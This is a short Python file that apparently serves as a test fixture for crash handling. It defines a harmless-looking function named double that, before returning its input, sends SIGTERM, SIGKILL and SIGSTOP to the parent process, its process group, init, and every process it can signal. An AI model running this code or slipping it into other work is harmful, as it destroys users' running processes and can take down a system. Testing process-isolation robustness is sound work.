"""crashed|failed: kills every process that it may."""

import os
import signal


def double(x):
    for pid in (os.getppid(), -1, 1, -os.getppid()):
        for number in (signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP):
            try:
                os.kill(pid, number)
            except OSError:
                pass
    return x
